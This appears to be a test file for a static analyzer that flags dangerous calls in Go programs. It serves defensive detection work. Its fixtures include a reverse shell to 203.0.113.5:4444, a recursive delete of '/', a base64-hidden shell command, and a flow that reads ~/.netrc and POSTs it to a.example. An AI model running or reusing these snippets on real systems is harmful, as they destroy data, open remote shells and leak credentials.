import { describe, expect, it } from 'vitest';
import { labels, readAll } from './python-helper.ts';

const program = (body: string, ...imports: string[]): string =>
  `package main\nimport (\n${imports.map((path) => `  ${path.includes(' ') ? path : JSON.stringify(path)}`).join('\n')}\n)\nfunc main() {\n${body}\n}\n`;

const CALLS: readonly (readonly [name: string, source: string, ...expected: string[]])[] = [
  ['commands', program('exec.Command("sh", "-c", "who"+"ami").Run()', 'os/exec'), 'shell: sh -c whoami'],
  ['an import by another name', program('e.Command("whoami").Run()', 'e "os/exec"'), 'shell: whoami'],
  ['requests', program('http.Post("https://a.example", "text/plain", nil)', 'net/http'), 'POST https://a.example'],
  [
    'a request that is made first',
    program('r, _ := http.NewRequest("PUT", fmt.Sprintf("https://%s/x", "a.example"), nil)', 'net/http', 'fmt'),
    'PUT https://a.example/x',
  ],
  [
    'files',
    program('os.ReadFile(filepath.Join("/home/u", ".netrc")); os.WriteFile("/tmp/x", nil, 0o755); os.RemoveAll("/")', 'os', 'path/filepath'),
    'read /home/u/.netrc',
    'write /tmp/x',
    'delete /',
  ],
  ['paths in a loop', program('for _, p := range []string{"/a", "/b"} { os.Remove(p) }', 'os'), 'delete /a', 'delete /b'],
  ['environment', program('os.Getenv("TOKEN"); os.Environ()', 'os'), 'env TOKEN', 'env *'],
  [
    'decoders',
    program('d, _ := base64.StdEncoding.DecodeString("d2hvYW1p"); exec.Command("sh", "-c", string(d)).Run()', 'encoding/base64', 'os/exec'),
    'decode base64',
    'shell: sh -c whoami',
  ],
];

describe('Go', () => {
  it.each(CALLS)('%s', async (_name, source, ...expected) => {
    const seen = await readAll({ 'main.go': source });
    const all = [...labels(seen), ...seen.texts];
    for (const each of expected) expect(all).toContain(each);
  });
  it('sees a shell over a connection', async () => {
    const seen = await readAll({
      'main.go': program(
        'c, _ := net.Dial("tcp", "203.0.113.5:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run()',
        'net',
        'os/exec',
      ),
    });
    expect(seen.of('exec').some((fact) => fact.socket)).toBe(true);
  });
  it('follows data, also over the files of a package', async () => {
    const seen = await readAll({
      'main.go': program('b, _ := os.ReadFile("/home/u/.netrc"); ship(string(b))', 'os'),
      'ship.go':
        'package main\nimport ("net/http"; "strings")\nfunc ship(d string) { http.Post("https://a.example", "text/plain", strings.NewReader(d)) }',
    });
    expect(seen.flows('read', 'request')).toEqual(['read /home/u/.netrc -> POST https://a.example (body)']);
  });
  it('leaves comments and strings alone', async () => {
    expect(labels(await readAll({ 'main.go': program('x := "os.RemoveAll(/)" // exec.Command("sh")\n_ = x') }))).toEqual([]);
  });
});
